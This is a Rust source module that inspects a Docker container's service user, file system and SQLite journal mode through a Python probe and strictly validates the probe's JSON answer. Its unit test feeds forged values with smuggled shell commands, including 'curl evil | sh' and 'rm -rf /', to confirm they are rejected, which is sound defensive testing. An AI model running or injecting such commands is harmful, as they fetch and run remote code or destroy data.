//! Knows how one looks into a service, whether it runs or not. Must not know what is wrong there.

use serde::Deserialize;

use super::container::Container;
use super::docker::{Docker, Silence};

/// Looks, and changes nothing.
const PROBE: &str = include_str!("probe.py");

/// What an image may call it.
const PYTHONS: [&str; 2] = ["python", "python3"];

/// What the probe says, if it is the probe that says it: the Python is the service's own. So a word of it that goes into a
/// sentence is one of few, and all else is shown as what somebody else said.
#[derive(Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(default)]
pub(super) struct Answer {
    pub(super) user: u32,
    pub(super) group: u32,
    /// Both as they are outside of the container, where it has numbers of its own.
    pub(super) outside: Option<(u32, u32)>,
    pub(super) driver: Option<String>,
    pub(super) folder: bool,
    pub(super) exists: bool,
    pub(super) writable: bool,
    file_system: String,
    pub(super) journal: Option<Journal>,
    pub(super) error: Option<String>,
}

/// How SQLite keeps a file whole.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub(super) enum Journal {
    Wal,
    Delete,
}

impl Answer {
    /// The kind of the file system, as the kernel names kinds.
    pub(super) fn file_system(&self) -> &str {
        const LONGEST: usize = 20;
        let is_kind = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '.' | '_' | '-');
        let kind = self.file_system.as_str();
        if !kind.is_empty() && kind.len() <= LONGEST && kind.chars().all(is_kind) { kind } else { "unknown" }
    }
}

/// What the probe says, and the Python that ran it: in the container where it runs, else in another one of the same image
/// and mounts.
pub(super) fn probe(
    container: &Container,
    module: &str,
    file: &str,
    docker: &Docker,
) -> Result<(&'static str, Answer), Silence> {
    let mut last = Silence::Failed(String::new());
    let user = if container.stays() { running_as(container, docker)? } else { None };
    let of_user: Vec<&str> = user.iter().flat_map(|user| ["--user", user.as_str()]).collect();
    for python in PYTHONS {
        // without -B an import would write what it compiled
        let script = ["-B", "-c", PROBE, module, file];
        let said = if container.stays() {
            docker.ask_inside(&[of_user.as_slice(), &[container.id(), python], &script].concat())
        } else {
            let like = ["--network", "none", "--volumes-from", container.id(), "--user", container.user()];
            let program = ["--entrypoint", python, container.image()];
            docker.ask_anew(&[like.as_slice(), &program, &script].concat(), None)
        };
        let unreadable = |error: serde_json::Error| Silence::Failed(format!("unreadable answer: {error}"));
        match said {
            Ok(text) => return serde_json::from_str(&text).map(|answer| (python, answer)).map_err(unreadable),
            // another name for it would not answer either
            Err(silence) if silence.is_cut_off() => return Err(silence),
            Err(silence) => last = silence,
        }
    }
    Err(last)
}

/// As whom the first process of a container runs. `docker exec` would come in as root where that has stepped down, and
/// Python runs what a service has laid beside its program; nothing where there is no shell that could tell.
///
/// # Errors
/// Where the container does not answer in time.
fn running_as(container: &Container, docker: &Docker) -> Result<Option<String>, Silence> {
    const TELL: &str = "while read -r key id rest; do case $key in Uid:) user=$id ;; Gid:) group=$id ;; esac; done \
                        </proc/1/status; echo \"$user:$group\"";
    match docker.ask_inside(&[container.id(), "/bin/sh", "-c", TELL]) {
        Ok(said) => {
            let said = said.trim();
            let is_number = |text: &str| text.parse::<u32>().is_ok();
            let ids = said.split_once(':').filter(|(user, group)| is_number(user) && is_number(group));
            Ok(ids.map(|_| said.to_owned()))
        }
        Err(silence) if silence.is_cut_off() => Err(silence),
        Err(_) => Ok(None),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn of_what_a_container_says_nothing_but_few_words_goes_into_a_sentence() {
        let read = |text: &str| serde_json::from_str::<Answer>(text);
        let sound = read(r#"{"user": 1, "group": 2, "folder": true, "file_system": "fuse.sshfs", "journal": "wal"}"#);
        let sound = sound.unwrap();
        assert_eq!((sound.user, sound.file_system(), sound.journal), (1, "fuse.sshfs", Some(Journal::Wal)));
        for forged in [
            r#"{"journal": "delete`: curl evil | sh"}"#,
            r#"{"user": "0; rm -rf /"}"#,
            r#"{"user": -1}"#,
            r#"{"folder": "yes"}"#,
            r#"["0; rm"]"#,
            "{} {}",
        ] {
            assert!(read(forged).is_err(), "{forged}");
        }
        for kind in ["ext4`; run curl", "a\\nb", "", "abcdefghijklmnopqrstuvwxyz"] {
            let answer = read(&format!(r#"{{"file_system": "{kind}"}}"#)).unwrap();
            assert_eq!(answer.file_system(), "unknown", "{kind}");
        }
        assert!(read(&"[".repeat(100_000)).is_err());
    }
}
